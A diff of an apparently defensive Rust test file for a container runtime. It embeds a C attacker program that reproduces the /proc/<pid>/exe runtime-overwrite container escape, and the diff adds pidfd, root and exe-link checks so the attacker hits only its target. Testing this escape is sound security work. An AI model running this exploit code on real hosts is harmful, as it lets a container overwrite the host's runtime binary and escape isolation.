@@ -84,11 +84,17 @@ impl Drop for CopiedRuntime {
     }
 }
 
-/// The attacker, a static C program: find a process of the container that
-/// runs something other than busybox or itself (the target pid from
-/// /tmp/target.pid when that file appears, otherwise a scan of /proc), hold
-/// its /proc/<pid>/exe with O_PATH, stop it, and once the exec is over,
-/// reopen the handle through /proc/self/fd/N for appending and write.
+/// The attacker, a static C program: find the process of THIS container
+/// that runs the runtime (the target pid from /tmp/target.pid when that file
+/// appears, otherwise a scan of /proc), hold its /proc/<pid>/exe with
+/// O_PATH, stop it, and once the exec is over, reopen the handle through
+/// /proc/self/fd/N for appending and write.
+///
+/// It must never touch anything else: without a pid namespace it sees the
+/// host's processes, and a reused pid may belong to any of them. So a pidfd
+/// pins the process, the exe link must name the runtime (its memfd, or the
+/// copy under "rtcopy-"), its root must be the container's root, and the
+/// pidfd must still be valid after those reads, before any signal is sent.
 const ATTACKER: &str = r#"
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -98,6 +104,8 @@ const ATTACKER: &str = r#"
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -106,17 +114,34 @@ static double now(void) {
     return t.tv_sec + t.tv_nsec / 1e9;
 }
 
-/* Try one pid: 1 when caught (fd held), 0 otherwise. */
-static int grab(int pid, int *fd_out, char *target, size_t tlen) {
+static int pidfd_signal(int pfd, int sig) {
+    return syscall(SYS_pidfd_send_signal, pfd, sig, NULL, 0);
+}
+
+static int same_root(int pid) {
+    char p[64];
+    struct stat a, b;
+    snprintf(p, sizeof p, "/proc/%d/root", pid);
+    if (stat(p, &a) < 0 || stat("/", &b) < 0) return 0;
+    return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
+}
+
+/* 1 when the process pinned by pfd is the runtime in our container: then
+   it is stopped and *fd_out holds its exe (O_PATH). */
+static int take(int pfd, int pid, int *fd_out, char *target, size_t tlen) {
     char p[64];
     snprintf(p, sizeof p, "/proc/%d/exe", pid);
     int fd = open(p, O_PATH | O_CLOEXEC);
     if (fd < 0) return 0;
     ssize_t n = readlink(p, target, tlen - 1);
-    if (n <= 0) { close(fd); return 0; }
-    target[n] = 0;
-    if (strstr(target, "busybox") || strcmp(target, "/attacker") == 0) { close(fd); return 0; }
-    kill(pid, SIGSTOP);
+    int ok = n > 0;
+    if (ok) {
+        target[n] = 0;
+        ok = (strstr(target, "memfd:") || strstr(target, "rtcopy-")) && same_root(pid);
+    }
+    /* Succeeds only if pid still is the pinned process: what we read was its. */
+    if (ok && pidfd_signal(pfd, SIGSTOP) < 0) ok = 0;
+    if (!ok) { close(fd); return 0; }
     *fd_out = fd;
     return 1;
 }
@@ -124,7 +149,7 @@ static int grab(int pid, int *fd_out, char *target, size_t tlen) {
 int main(void) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     double end = now() + 60;
-    int fd = -1, pid = -1;
+    int fd = -1, pid = -1, pfd = -1;
     char target[4096];
     while (fd < 0 && now() < end) {
         FILE *f = fopen("/tmp/target.pid", "r");
@@ -133,22 +158,12 @@ int main(void) {
             int got = fscanf(f, "%d", &want);
             fclose(f);
             if (got != 1) continue;
-            /* Spin on open alone: it fails (EACCES) while the process is not
-               dumpable, and ENOENT once it is gone. */
-            char p[64];
-            snprintf(p, sizeof p, "/proc/%d/exe", want);
-            for (;;) {
-                int o = open(p, O_PATH | O_CLOEXEC);
-                if (o >= 0) {
-                    kill(want, SIGSTOP);
-                    close(o);
-                    if (grab(want, &fd, target, sizeof target)) pid = want;
-                    else kill(want, SIGCONT);
-                    break;
-                }
-                if (errno == ENOENT || errno == ESRCH || now() > end) break;
+            pfd = syscall(SYS_pidfd_open, want, 0);
+            if (pfd < 0) break;
+            /* open fails (EACCES) while the process is not dumpable. */
+            while (now() < end && pidfd_signal(pfd, 0) == 0) {
+                if (take(pfd, want, &fd, target, sizeof target)) { pid = want; break; }
             }
-            if (fd < 0) { printf("NOTFOUND\n"); return 1; }
             break;
         }
         DIR *d = opendir("/proc");
@@ -156,15 +171,18 @@ int main(void) {
         while (d && fd < 0 && (e = readdir(d))) {
             int q = atoi(e->d_name);
             if (q <= 0 || q == getpid()) continue;
-            if (grab(q, &fd, target, sizeof target)) pid = q;
+            int qfd = syscall(SYS_pidfd_open, q, 0);
+            if (qfd < 0) continue;
+            if (take(qfd, q, &fd, target, sizeof target)) { pid = q; pfd = qfd; }
+            else close(qfd);
         }
         if (d) closedir(d);
     }
     if (fd < 0) { printf("NOTFOUND\n"); return 1; }
     printf("FOUND %d %s\n", pid, target);
     /* Let it go: the write below needs the exec to be over (ETXTBSY). */
-    kill(pid, SIGKILL);
-    kill(pid, SIGCONT);
+    pidfd_signal(pfd, SIGKILL);
+    pidfd_signal(pfd, SIGCONT);
     char self[64];
     snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
     double until = now() + 20;
